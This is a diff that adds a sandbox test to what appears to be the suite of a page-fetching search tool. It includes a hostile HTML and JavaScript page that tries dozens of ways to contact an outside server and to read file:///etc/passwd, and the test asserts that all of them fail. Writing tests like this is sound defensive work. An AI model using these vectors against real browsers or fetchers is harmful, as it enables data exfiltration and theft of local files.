@@ -6,6 +6,7 @@ import asyncio
 import contextlib
 import logging
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -253,6 +254,55 @@ def test_a_hostile_page_reaches_no_other_service(desk: Desk):
         desk.page.answer = Answer(body=f"<script>location.href = '{target}'</script>")
         assert desk.refusal().status in (SearchStatus.NETWORK_ERROR, SearchStatus.INVALID_RESPONSE)
         assert other.paths == []
+
+
+VECTORS = """
+<link rel="stylesheet" href="@/css"><link rel="icon" href="@/icon"><link rel="preload" as="image" href="@/preload">
+<link rel="prefetch" href="@/prefetch"><link rel="preconnect" href="@"><link rel="dns-prefetch" href="@">
+<link rel="modulepreload" href="@/module"><link rel="manifest" href="@/manifest"><link rel="prerender" href="@/prerender">
+<style>@import '@/import'; body { background: url(@/background); cursor: url(@/cursor), auto }
+@font-face { font-family: f; src: url(@/font) } .f { font-family: f; list-style: url(@/list) }</style>
+<img src="@/img" srcset="@/srcset 2x"><picture><source srcset="@/source"><img src="@/picture"></picture>
+<video src="@/video" poster="@/poster" autoplay><track src="@/track" default></video><audio src="@/audio" autoplay></audio>
+<iframe src="@/frame"></iframe><iframe srcdoc="<img src=@/srcdoc>"></iframe><object data="@/object"></object>
+<embed src="@/embed"><svg><image href="@/svg"/><use href="@/use#x"/></svg><input type="image" src="@/input">
+<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:@/source"></iframe><iframe name="target"></iframe>
+<form id="form" action="@/form" method="post" target="target"></form><a id="ping" href="#x" ping="@/ping">x</a>
+<table background="@/table"><tr><td class="f">글</td></tr></table><script src="@/script"></script>
+<script type="speculationrules">{"prefetch": [{"urls": ["@/speculation"]}], "prerender": [{"urls": ["@/speculation"]}]}</script>
+<script>
+const there = '@', socket = there.replace('http', 'ws'), told = [];
+const tried = [
+  () => fetch(there + '/fetch', {mode: 'no-cors'}), () => fetch(there + '/keepalive', {mode: 'no-cors', keepalive: true}),
+  () => fetch('file:///etc/passwd').then(r => r.text()).then(t => told.push(t)), () => import(there + '/module.js'),
+  () => navigator.serviceWorker.register('/worker.js'),
+  () => new Promise((go, no) => { new Worker(there + '/worker').onerror = no }),
+  () => new Promise(go => { const ws = new WebSocket(socket + '/socket'); ws.onclose = go }),
+  () => new Promise(go => { const es = new EventSource(there + '/events'); es.onerror = go }),
+  () => new Promise(go => { const x = new XMLHttpRequest(); x.onloadend = go; x.open('POST', there + '/xhr'); x.send() }),
+  () => new Promise(go => { const i = new Image(); i.onerror = go; i.src = there + '/image'; setTimeout(go, 500) }),
+  () => new FontFace('g', `url(${there}/face)`).load(), () => navigator.sendBeacon(there + '/beacon'),
+  () => window.open(there + '/window'), () => document.getElementById('form').submit(),
+  () => document.getElementById('ping').click(), () => new WebTransport(there.replace('http', 'https') + '/transport').ready,
+  () => new RTCPeerConnection({iceServers: [{urls: 'turn:' + there.slice(7) + '?transport=tcp', username: 'u', credential: 'c'}]})
+    .createDataChannel('x'),
+];
+Promise.allSettled(tried.map(one => Promise.resolve().then(one))).then(ended => {
+  const shown = document.createElement('div');
+  shown.innerHTML = `<div class="result"><a class="result__a" href="https://example.org/">${ended.length} ${told}</a></div>`;
+  document.body.append(shown);
+});
+</script>
+"""
+
+
+def test_no_way_out_of_a_page_opens_a_connection(desk: Desk):
+    """Styles, fonts, media, frames, forms, workers, sockets, hints and files: all are tried, none leaves, none reads a file."""
+    with ResultPage() as other:
+        desk.page.answer = Answer(body=re.sub(r"@(?!import|font)", f"http://127.0.0.1:{other.port}", VECTORS))
+        (told,) = desk.ask()
+        assert told.title == "17"
+        assert (other.connections, other.paths) == (0, [])
 
 
 def test_a_bare_domain_may_ask_the_hosts_below_it_and_no_others(desk: Desk):
